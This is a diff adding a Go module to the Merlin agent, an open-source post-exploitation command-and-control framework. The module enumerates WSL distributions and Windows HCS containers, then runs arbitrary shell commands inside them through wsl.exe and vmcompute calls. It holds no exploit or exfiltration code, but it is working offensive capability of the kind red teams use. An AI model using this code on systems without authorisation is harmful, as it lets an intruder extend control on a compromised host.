@@ -0,0 +1,183 @@
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+package commands
+
+import (
+	// Standard
+	"encoding/json"
+	"fmt"
+	"io"
+	"os"
+	"strings"
+	"time"
+
+	// X Packages
+	"golang.org/x/sys/windows"
+	"golang.org/x/sys/windows/registry"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/api/vmcompute"
+	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/pkg/text"
+)
+
+// guestTimeout is how long a command executed in a container can run before it is terminated
+const guestTimeout = 2 * time.Minute
+
+// lxss is the registry key, under HKEY_CURRENT_USER, that the user's WSL distributions are registered under
+const lxss = `Software\Microsoft\Windows\CurrentVersion\Lxss`
+
+// computeSystem is a container or utility VM returned by HcsEnumerateComputeSystems
+type computeSystem struct {
+	Id            string
+	SystemType    string
+	Name          string
+	Owner         string
+	RuntimeOsType string
+	State         string
+}
+
+// guests lists the WSL distributions registered for the Agent's user and the compute systems HCS manages
+func guests() (string, error) {
+	list := "WSL distributions:\n"
+	distributions, err := wslDistributions()
+	if err != nil {
+		list += fmt.Sprintf("  %s\n", err)
+	}
+	for _, distribution := range distributions {
+		list += fmt.Sprintf("  %s\n", distribution)
+	}
+
+	list += "Containers and utility VMs:\n"
+	data, err := vmcompute.HcsEnumerateComputeSystems("{}")
+	if err != nil {
+		return list + fmt.Sprintf("  %s\n", err), nil
+	}
+	var systems []computeSystem
+	if err = json.Unmarshal([]byte(data), &systems); err != nil {
+		return list, fmt.Errorf("there was an error parsing the compute systems: %s", err)
+	}
+	for _, system := range systems {
+		list += fmt.Sprintf("  %s %s %s (%s, owner: %s, state: %s)\n", system.Id, system.SystemType, system.Name, system.RuntimeOsType, system.Owner, system.State)
+	}
+	return list, nil
+}
+
+// wslDistributions returns a description of each WSL distribution registered for the Agent's user
+func wslDistributions() ([]string, error) {
+	key, err := registry.OpenKey(registry.CURRENT_USER, lxss, registry.READ)
+	if err != nil {
+		return nil, fmt.Errorf("there was an error opening HKCU\\%s: %s", lxss, err)
+	}
+	defer key.Close()
+	def, _, _ := key.GetStringValue("DefaultDistribution")
+	ids, err := key.ReadSubKeyNames(-1)
+	if err != nil {
+		return nil, fmt.Errorf("there was an error reading the WSL distributions: %s", err)
+	}
+	var distributions []string
+	for _, id := range ids {
+		sub, errKey := registry.OpenKey(key, id, registry.QUERY_VALUE)
+		if errKey != nil {
+			continue
+		}
+		name, _, _ := sub.GetStringValue("DistributionName")
+		path, _, _ := sub.GetStringValue("BasePath")
+		version, _, _ := sub.GetIntegerValue("Version")
+		_ = sub.Close()
+		distribution := fmt.Sprintf("%s (WSL %d) %s", name, version, path)
+		if strings.EqualFold(id, def) {
+			distribution += " [default]"
+		}
+		distributions = append(distributions, distribution)
+	}
+	return distributions, nil
+}
+
+// wslExec executes the command with /bin/sh inside the WSL distribution through wsl.exe
+func wslExec(distribution, command string) (stdout, stderr string) {
+	return executeCommand("wsl.exe", []string{"--distribution", distribution, "--exec", "/bin/sh", "-c", command}, execOptions{})
+}
+
+// containerExec executes the command line inside the container with the Host Compute Service and returns its output.
+// The command is terminated if it runs longer than the guestTimeout
+func containerExec(id, commandLine string) (stdout, stderr string, err error) {
+	system, err := vmcompute.HcsOpenComputeSystem(id)
+	if err != nil {
+		return
+	}
+	defer func() {
+		_ = vmcompute.HcsCloseComputeSystem(system)
+	}()
+
+	parameters, err := json.Marshal(struct {
+		CommandLine      string
+		CreateStdOutPipe bool
+		CreateStdErrPipe bool
+	}{commandLine, true, true})
+	if err != nil {
+		return
+	}
+	process, info, err := vmcompute.HcsCreateProcess(system, string(parameters))
+	if err != nil {
+		return
+	}
+	defer func() {
+		_ = vmcompute.HcsCloseProcess(process)
+	}()
+	if info.StdInput != 0 {
+		_ = windows.CloseHandle(info.StdInput)
+	}
+
+	// The pipes are closed when the process exits
+	read := func(handle windows.Handle, name string, output chan<- string) {
+		pipe := os.NewFile(uintptr(handle), name)
+		defer pipe.Close()
+		data, _ := io.ReadAll(pipe)
+		s, errDecode := text.DecodeString(data)
+		if errDecode != nil {
+			s = string(data)
+		}
+		output <- s
+	}
+	stdoutC, stderrC := make(chan string, 1), make(chan string, 1)
+	go read(info.StdOutput, "stdout", stdoutC)
+	go read(info.StdError, "stderr", stderrC)
+
+	timeout := time.NewTimer(guestTimeout)
+	defer timeout.Stop()
+	for stdoutC != nil || stderrC != nil {
+		select {
+		case stdout = <-stdoutC:
+			stdoutC = nil
+		case stderr = <-stderrC:
+			stderrC = nil
+		case <-timeout.C:
+			if errTerminate := vmcompute.HcsTerminateProcess(process); errTerminate != nil {
+				return stdout, stderr, errTerminate
+			}
+			err = fmt.Errorf("the process was terminated after running for %s", guestTimeout)
+			// Terminating the process closes the pipes so the output read so far is returned
+			timeout.Reset(guestTimeout)
+		}
+	}
+	stdout = fmt.Sprintf("Created process %d in container %s\n%s", info.ProcessId, id, stdout)
+	return
+}